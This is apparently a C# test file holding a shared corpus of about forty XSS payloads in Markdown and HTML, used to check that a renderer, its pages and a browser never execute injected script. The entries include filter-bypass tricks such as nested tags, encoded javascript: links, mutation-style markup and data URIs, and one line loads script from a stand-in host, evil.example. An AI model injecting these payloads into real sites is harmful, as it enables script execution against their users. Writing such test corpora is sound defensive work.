namespace KnowledgeKaizen.Testing;

/// <summary>
/// Markdown and HTML payloads that try to run script: the renderer's unit tests, the pages over HTTP and a real
/// browser all use this one list.
/// </summary>
public static class XssCorpus
{
    public static readonly string[] Vectors =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click]( javascript:alert(1) )",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![img](javascript:alert(1))",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<div onclick=\"alert(1)\">x</div>",
        "<body onload=alert(1)>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<style>*{background:url('javascript:alert(1)')}</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</script>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "Text {onclick=\"alert(1)\"}",
        "## Heading {onmouseover=alert(1) #x}",
        "[x](https://example.com){onclick=alert(1)}",
        "![x](https://example.com/a.png){onerror=alert(1)}",
        "```mermaid\nflowchart TD\n  A[\"<img src=x onerror=alert(1)>\"] --> B\n```",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<unclosed <b onmouseover=alert(1)>bold",
    ];
}
